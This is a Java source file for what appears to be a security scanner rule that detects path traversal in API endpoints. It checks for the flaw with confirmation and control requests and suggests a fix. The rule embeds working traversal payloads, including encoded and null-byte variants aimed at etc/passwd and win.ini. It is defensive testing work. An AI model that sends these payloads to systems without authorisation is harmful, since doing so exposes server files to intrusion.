package dev.sinew.probe.proof.inject;

import dev.sinew.model.Location;
import dev.sinew.model.Maturity;
import dev.sinew.model.Rule;
import dev.sinew.model.Severity;
import dev.sinew.probe.http.Ask;
import dev.sinew.probe.http.Reply;
import dev.sinew.probe.oracle.Fresh;
import dev.sinew.probe.place.EachSlot;
import dev.sinew.probe.place.Slot;
import dev.sinew.probe.run.Endpoint;
import dev.sinew.probe.run.Manner;
import dev.sinew.probe.run.Outcome;
import dev.sinew.probe.run.Proof;
import dev.sinew.probe.run.Trial;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

/**
 * A value of a request leads out of the folder that it should stay in: whoever writes it reads files of the server.
 *
 * <p>Proved by a file that systems of a kind have, and whose form nothing else has: the list of accounts of Unix ({@code root:…:0:0:}), or the
 * settings of old Windows programs. It comes back twice for a way that leads out of the folder, in plain or encoded form, and not for the usual value, for a
 * way that ends in a name that no file has, nor for the same name inside of the folder. The content is not kept.
 *
 * <p>To fix it, find the real path of the file and see that it lies below the folder, or take files by an id.
 */
@Rule(
        id = "probe.path-traversal",
        flaw = "path-traversal",
        title = "A value of the request reads files outside of their folder",
        severity = Severity.HIGH,
        maturity = Maturity.PREVIEW,
        owasp = {"API8:2023", "API1:2023"},
        cwe = {22},
        standards = {"PCI-DSS-4.0.1 6.2.4"})
public final class PathTraversal implements Proof {
    private static final String UP = "../../../../../../../../";
    private static final String NAME = "etc/passwd";

    @Override
    public Manner manner() {
        return Manner.MEANING;
    }

    @Override
    public boolean needsProvenIdentity() {
        return false;
    }

    @Override
    public Optional<Outcome> prove(Endpoint endpoint, Trial trial) {
        return EachSlot.of(endpoint, trial, slot -> true, slot -> judge(slot, trial));
    }

    /** Requests that lead to a file from a slot. */
    private static List<Ask> ways(Slot slot, String file) {
        List<Ask> ways = new ArrayList<>(List.of(
                slot.ask(UP + file),
                slot.ask("/" + file),
                slot.ask("....//....//....//....//....//....//....//" + file),
                slot.ask(slot.usual() + "/" + UP + file),
                slot.ask("file:///" + file)));
        if (slot.location() == Location.PATH || slot.location() == Location.QUERY) {
            ways.add(slot.askEncoded((UP + file).replace("/", "%252f")));
            ways.add(slot.askEncoded((UP + file).replace(".", "%252e").replace("/", "%252f")));
        }
        if (slot.location() == Location.PATH) {
            ways.add(slot.askEncoded((UP + file).replace("..", "%2e%2e")));
        }
        int dot = slot.usual().lastIndexOf('.');
        if (dot > 0) {
            ways.add(slot.ask(UP + file + "\0" + slot.usual().substring(dot)));
        }
        return ways;
    }

    private static Outcome judge(Slot slot, Trial trial) {
        String none = NAME + Fresh.word();
        List<Ask> never = ways(slot, none);
        List<Ask> ways = ways(slot, NAME);
        int blocked = 0;
        Reply last = Reply.NONE;
        for (int i = 0; i < ways.size(); i++) {
            last = slot.send(ways.get(i), trial);
            if (EachSlot.isDisturbed(last)) {
                return EachSlot.disturbed(last);
            }
            if (KnownFiles.isAccounts(last.text())) {
                return again(slot, trial, ways.get(i), never.get(i));
            }
            blocked += EachSlot.isRefused(last) ? 1 : 0;
        }
        Ask windows = slot.ask("..\\..\\..\\..\\..\\..\\..\\..\\windows\\win.ini");
        if (KnownFiles.isSettings(slot.send(windows, trial).text())) {
            return again(
                    slot,
                    trial,
                    windows,
                    slot.ask("..\\..\\..\\..\\..\\..\\..\\..\\windows\\" + Fresh.word() + ".ini"));
        }
        if (blocked == ways.size() && EachSlot.isBlocked(last, slot.send(slot.usual(), trial))) {
            // The first way is a value as it is, so that an answer which repeats it can be told.
            return EachSlot.blocked(slot.send(ways.getFirst(), trial), UP + NAME, slot, trial);
        }
        return Outcome.refuted("no way out of a folder brings a file that is known");
    }

    private static Outcome again(Slot slot, Trial trial, Ask way, Ask never) {
        if (!KnownFiles.isKnown(slot.send(way, trial).text())) {
            return Outcome.inconclusive("a known file came back once and not again");
        }
        for (Ask control : List.of(slot.ask(slot.usual()), never, slot.ask(NAME), slot.ask("sinew/" + NAME))) {
            if (KnownFiles.isKnown(slot.send(control, trial).text())) {
                return Outcome.inconclusive(
                        "what looks like a known file also comes back where nothing leads out of a folder");
            }
        }
        return Outcome.confirmed(
                "a way out of the folder brings a file of the operating system, twice; the usual value, a name that no file has and the"
                        + " same name inside of the folder bring none",
                List.of(
                        new Outcome.Step(slot.persona().session(), way, "the file comes back"),
                        new Outcome.Step(slot.persona().session(), never, "no such file")));
    }
}
